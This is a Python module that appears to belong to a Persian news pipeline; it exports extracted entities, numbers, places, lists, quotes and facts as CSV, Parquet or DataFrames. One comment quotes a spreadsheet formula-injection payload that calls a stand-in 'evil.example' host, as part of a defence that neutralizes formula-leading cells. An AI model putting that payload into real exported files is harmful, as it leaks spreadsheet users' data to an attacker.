"""Documents -> tables: ``documents``, ``entities``, ``numbers``, ``places``, ``lists``.

``to_frames(documents)`` gives pandas DataFrames for library users; the batch runner writes the
same rows as CSV (UTF-8 with a BOM by default) or Parquet. Every record row carries ``doc_id``,
its span in ORIGINAL offsets (``start``, ``end``, ``text`` == original[start:end]) and
``sentence``, the original text of the sentence it comes from. Record columns follow the record
dataclasses of ``pipeline.document`` field by field (new fields show up as new columns).

One rows function (``document_rows``) feeds every output, and ``format_cell`` renders values the
same way everywhere (None -> empty, floats in shortest round-trip form, integral floats without
``.0``, booleans as ``true``/``false``): tables are byte-identical however they were computed.
"""
from __future__ import annotations

import csv
import dataclasses
import io
import math
import os
import typing
from pathlib import Path
from typing import Any, Iterable, Sequence

import regex

from .document import Document, Entity, Enumeration, Fact, ListItem, NumberMention, PlaceMention, Quote, clip_title

Row = tuple
TableRows = dict[str, list[Row]]

TABLE_NAMES = ("documents", "entities", "numbers", "places", "lists", "quotes", "facts")

DOCUMENT_COLUMNS: list[tuple[str, str]] = [
    ("doc_id", "str"), ("source", "str"), ("title", "str"), ("agency", "str"), ("dateline", "str"),
    ("published", "str"), ("published_date", "str"), ("published_jalali", "str"), ("published_time", "str"),
    ("published_source", "str"), ("url", "str"), ("chars", "int"), ("sentences", "int"),
    ("n_entities", "int"), ("n_numbers", "int"), ("n_places", "int"), ("n_lists", "int"),
    ("n_quotes", "int"), ("n_facts", "int"),
    ("status", "str"), ("error", "str"), ("warning", "str"),
    ("record_id", "str"), ("duplicate_of", "str"), ("kept", "str"),
]

_SPAN = ("start", "end", "text")
# Record attribute -> table column, where the two differ. ``Entity.source`` (model, rule,
# gazetteer) is the entities table's ``method``: a column ``source`` would clash with
# ``documents.source`` (the input file) when the tables are merged on ``doc_id``.
_RENAME: dict[type, dict[str, str]] = {Entity: {"source": "method"}}


def _kind(annotation: Any) -> str:
    text = annotation if isinstance(annotation, str) else getattr(annotation, "__name__", str(annotation))
    for name in ("bool", "float", "int"):
        if regex.search(rf"\b{name}\b", text):
            return name
    return "str"


def _record_fields(cls: type, skip: Sequence[str] = ()) -> list[tuple[str, str, str]]:
    """(attribute, column, kind) of a record dataclass's own fields, span fields excluded."""
    rename = _RENAME.get(cls, {})
    hints = {f.name: f.type for f in dataclasses.fields(cls)}
    return [(name, rename.get(name, name), _kind(hints[name])) for name in hints if name not in _SPAN and name not in skip]


_ENTITY_FIELDS = _record_fields(Entity)
_NUMBER_FIELDS = _record_fields(NumberMention, skip=("rule",))  # the rule name is for audits, not a column
_PLACE_FIELDS = _record_fields(PlaceMention, skip=("reason",))  # the reason is for audits, not a column
_LIST_FIELDS = _record_fields(Enumeration, skip=("items", "category", "stated_count", "item_type"))
_ITEM_FIELDS = _record_fields(ListItem, skip=("item", "note"))
_QUOTE_FIELDS = _record_fields(Quote)
_FACT_FIELDS = _record_fields(Fact)


def _span_table(fields: list[tuple[str, str, str]]) -> list[tuple[str, str]]:
    return [("doc_id", "str"), ("start", "int"), ("end", "int"), ("text", "str")] + [(c, k) for _, c, k in fields] + [("sentence", "str")]


COLUMNS: dict[str, list[tuple[str, str]]] = {
    "documents": DOCUMENT_COLUMNS,
    "entities": _span_table(_ENTITY_FIELDS),
    "numbers": _span_table(_NUMBER_FIELDS),
    "places": _span_table(_PLACE_FIELDS),
    "quotes": _span_table(_QUOTE_FIELDS),
    "facts": _span_table(_FACT_FIELDS),
    "lists": [("doc_id", "str"), ("list_index", "int"), ("category", "str"), ("stated_count", "int"),
              ("count_matches", "bool"), ("list_start", "int"), ("list_end", "int")]
             + [(c, k) for _, c, k in _LIST_FIELDS]
             + [("item_index", "int"), ("item", "str"), ("note", "str")]
             + [(c, k) for _, c, k in _ITEM_FIELDS]
             + [("start", "int"), ("end", "int"), ("text", "str"), ("sentence", "str")],
}


def columns(table: str) -> list[str]:
    return [c for c, _ in COLUMNS[table]]


def _title(doc: Document) -> str:
    title = str(doc.meta.get("title") or "")
    if title:
        return clip_title(title)
    for line in doc.original[:10_000].splitlines():
        if line.strip():
            return clip_title(line)
    return ""


# ----------------------------------------------------------------------------- rows


def document_rows(doc: Document) -> TableRows:
    """The rows one processed Document contributes to each table (values, not yet formatted)."""
    doc_id = doc.doc_id
    sentence = doc.sentence_text
    meta = doc.meta
    out: TableRows = {name: [] for name in TABLE_NAMES}
    pub = doc.published  # the article date the dates stage read (None when skipped or not found)
    out["documents"].append((
        doc_id, str(meta.get("source") or ""), _title(doc), doc.agency, doc.dateline,
        str(meta.get("published") or ""), *(_published_cells(pub)), str(meta.get("url") or ""), len(doc.original), len(doc.sentences),
        len(doc.entities), len(doc.numbers), len(doc.places), len(doc.lists), len(doc.quotes), len(doc.facts),
        "ok", "",
        str(meta.get("warning") or ""), str(meta.get("record_id") or ""), str(meta.get("duplicate_of") or "") or None,
        str(meta.get("kept") or ""),
    ))
    for table, records, fields in (("entities", doc.entities, _ENTITY_FIELDS),
                                   ("numbers", doc.numbers, _NUMBER_FIELDS),
                                   ("places", doc.places, _PLACE_FIELDS),
                                   ("quotes", doc.quotes, _QUOTE_FIELDS),
                                   ("facts", doc.facts, _FACT_FIELDS)):
        rows = out[table]
        for r in records:
            rows.append((doc_id, r.start, r.end, r.text, *(getattr(r, a) for a, _, _ in fields), sentence(r.start)))
    rows = out["lists"]
    for li, lst in enumerate(doc.lists, start=1):
        head = (doc_id, li, lst.category, lst.stated_count, lst.count_matches, lst.start, lst.end,
                *(getattr(lst, a) for a, _, _ in _LIST_FIELDS))
        if not lst.items:  # a list whose items were not found still shows up, with empty item cells
            rows.append((*head, None, None, None, *(None for _ in _ITEM_FIELDS), lst.start, lst.end, lst.text, sentence(lst.start)))
        for ii, item in enumerate(lst.items, start=1):
            rows.append((*head, ii, item.item, item.note, *(getattr(item, a) for a, _, _ in _ITEM_FIELDS),
                         item.start, item.end, item.text, sentence(item.start)))
    return out


def _published_cells(pub) -> tuple:
    if pub is None:
        return (None, None, None, None)
    return (pub.date, pub.jalali, pub.time, pub.source)


def error_rows(doc_id: str, source: str, error: str, *, title: str = "", published: str = "", url: str = "",
               chars: int | None = None, warning: str = "", record_id: str = "", kept: str = "") -> TableRows:
    """The single documents row of a record that failed, with its message."""
    out: TableRows = {name: [] for name in TABLE_NAMES}
    out["documents"].append((doc_id, source, title, "", "", published, None, None, None, None, url, chars, None,
                             None, None, None, None, None, None, "error", error, warning, record_id, None, kept))
    return out


def to_frames(documents: Iterable[Document]) -> dict[str, "pd.DataFrame"]:  # noqa: F821
    """The tables for processed Documents, as DataFrames with nullable dtypes. A document's
    ``meta`` may carry ``source``, ``title``, ``published`` and ``url``."""
    if isinstance(documents, (Document, str)):
        # A Document is not iterable; say so in the terms of this function, with the fix.
        raise TypeError(f"to_frames() expects an iterable of Documents, got a single {type(documents).__name__} "
                        "(wrap it in a list: to_frames([doc]))")
    rows: TableRows = {name: [] for name in TABLE_NAMES}
    for i, doc in enumerate(documents):
        if not isinstance(doc, Document):
            raise TypeError(f"to_frames() expects Documents; item {i} is {type(doc).__name__} "
                            "(make one with pipeline.process(text))")
        for name, table_rows in document_rows(doc).items():
            rows[name].extend(table_rows)
    return frames(rows)


_DTYPES = {"str": "string", "int": "Int64", "float": "Float64", "bool": "boolean"}


def frames(rows: TableRows) -> dict[str, "pd.DataFrame"]:  # noqa: F821
    import pandas as pd

    out = {}
    for name in TABLE_NAMES:
        cols = COLUMNS[name]
        data = rows.get(name, [])
        df = pd.DataFrame.from_records(data, columns=[c for c, _ in cols]) if data else pd.DataFrame({c: [] for c, _ in cols})
        out[name] = df.astype({c: _DTYPES[k] for c, k in cols})
    return out


# ------------------------------------------------------------------------------ output


def format_cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        if math.isnan(value):
            return ""
        if value.is_integer() and abs(value) < 1e15:
            return str(int(value))
        return repr(value)
    return str(value)


# A spreadsheet runs a cell that starts with one of these as a formula (OWASP, "CSV
# injection"): a title «=HYPERLINK("http://evil.example/?"&A1,"x")» would become a live link
# that sends the neighbouring cells away. "-" starts a formula too («--05-21» evaluates to -16),
# except in a plain negative number.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = regex.compile(r"-[0-9]+(?:\.[0-9]+)?")


def neutralize(cell: str) -> str:
    """A text cell a spreadsheet will show as text: a leading ``'`` before ``= + - @``, tab or
    CR (as OWASP recommends); plain negative numbers are left alone. CSV only: Parquet keeps
    the raw text."""
    if cell.startswith(_FORMULA_START) and not (cell[0] == "-" and _PLAIN_NUMBER.fullmatch(cell)) \
            or cell.startswith("'"):  # a text's own leading quote is doubled, so reading back is exact
        return "'" + cell
    return cell


def unneutralize(cell: str) -> str:
    """The text ``neutralize`` was given: one leading ``'`` dropped."""
    return cell[1:] if cell.startswith("'") else cell


def _csv_cell(value: Any) -> str:
    return neutralize(value) if isinstance(value, str) else format_cell(value)


class CsvTable:
    """One CSV table written in whole rows: every ``write`` ends with a flush, so a run that is
    killed leaves a file of complete rows (at worst, a last partial line that ``--resume`` drops).
    Text cells are neutralized against formula injection (``neutralize``)."""

    def __init__(self, path: Path, table: str, encoding: str = "utf-8-sig", append: bool = False):
        self.path = path
        self.columns = columns(table)
        self.encoding = "utf-8" if encoding.lower().replace("_", "-") in ("utf-8", "utf8") else encoding
        fresh = not (append and path.exists() and path.stat().st_size > 0)
        self.fh = path.open("wb" if fresh else "ab")
        self.rows_written = 0
        if fresh:
            self.fh.write(self._encode(self.columns, first=True))
            self.fh.flush()

    def _encode(self, *rows: Sequence[Any], first: bool = False) -> bytes:
        buf = io.StringIO()
        writer = csv.writer(buf, lineterminator="\n")
        for row in rows:
            writer.writerow([_csv_cell(v) for v in row])
        data = buf.getvalue()
        if self.encoding == "utf-8-sig":
            data = "\ufeff" + data if first else data
        codec = "utf-8" if self.encoding == "utf-8-sig" else self.encoding
        try:
            return data.encode(codec)
        except UnicodeEncodeError:  # a lone surrogate that got past the readers: never a crash
            return data.encode(codec, "replace")

    def write(self, rows: Sequence[Row]) -> None:
        if rows:
            self.fh.write(self._encode(*rows))
            self.fh.flush()
            self.rows_written += len(rows)

    def close(self) -> None:
        """Flush to disk and close; raises OSError (a full disk...) rather than hiding it."""
        try:
            self.fh.flush()
            os.fsync(self.fh.fileno())
        finally:
            self.fh.close()

    def abort(self) -> None:
        try:
            self.fh.close()
        except OSError:
            pass


class ParquetTable:
    """One Parquet table, streamed as row groups (one per ``write``, i.e. per finished chunk of
    documents) into ``NAME.parquet.part``. ``finish`` closes it (raising if the footer cannot be
    written, e.g. on a full disk) and ``commit`` renames it into place: a table is never in
    place unless it was closed without error. The batch runner finishes every table before it
    commits any, so the five tables in a folder always come from the same run."""

    def __init__(self, path: Path, table: str, existing: Path | None = None, keep: set[str] | None = None):
        try:
            import pyarrow as pa
            import pyarrow.parquet as pq
        except ImportError:
            raise RuntimeError("--format parquet needs pyarrow: pip install 'persian-news-pipeline[parquet]'") from None
        self.pa, self.pq = pa, pq
        self.path = path
        self.table = table
        self.cols = COLUMNS[table]
        types = {"str": pa.string(), "int": pa.int64(), "float": pa.float64(), "bool": pa.bool_()}
        self.schema = pa.schema([(c, types[k]) for c, k in self.cols])
        self.part = path.with_name(path.name + ".part")
        self.rows_written = 0
        self.writer = pq.ParquetWriter(self.part, self.schema)
        if existing is not None and existing.exists():
            self._copy(existing, keep)

    def _copy(self, existing: Path, keep: set[str] | None) -> None:
        """The rows of a previous run's table (``--resume``), without the records of documents
        whose documents row never made it (a run stopped between the two writes)."""
        import pyarrow.compute as pc

        old = self.pq.ParquetFile(existing)
        if old.schema_arrow.names != self.schema.names:
            raise ValueError(f"{existing} was written with other columns")
        wanted = self.pa.array(sorted(keep), type=self.pa.string()) if keep is not None else None
        for i in range(old.num_row_groups):
            group = old.read_row_group(i).cast(self.schema)
            if wanted is not None:
                group = group.filter(pc.is_in(group.column("doc_id"), value_set=wanted))
            if group.num_rows:
                self.writer.write_table(group)
                self.rows_written += group.num_rows

    def write(self, rows: Sequence[Row]) -> None:
        if rows:
            arrays = [self.pa.array([self._clean(r[i], k) for r in rows], type=self.schema.field(i).type) for i, (_, k) in enumerate(self.cols)]
            self.writer.write_table(self.pa.Table.from_arrays(arrays, schema=self.schema))
            self.rows_written += len(rows)

    @staticmethod
    def _clean(value: Any, kind: str) -> Any:
        if value is None or (isinstance(value, float) and math.isnan(value)):
            return None
        if isinstance(value, str):  # pyarrow refuses lone surrogates
            try:
                value.encode("utf-8")
            except UnicodeEncodeError:
                return value.encode("utf-8", "replace").decode("utf-8")
        return value

    def finish(self) -> None:
        """Write the footer; raises OSError when it cannot (the table is then not committed)."""
        self.writer.close()
        with open(self.part, "rb") as fh:
            os.fsync(fh.fileno())

    def commit(self) -> None:
        os.replace(self.part, self.path)

    def abort(self) -> None:
        try:
            self.writer.close()
        except Exception:
            pass
        try:
            self.part.unlink()
        except OSError:
            pass

    def close(self) -> None:
        self.finish()
        self.commit()


if typing.TYPE_CHECKING:  # pragma: no cover
    import pandas as pd  # noqa: F401
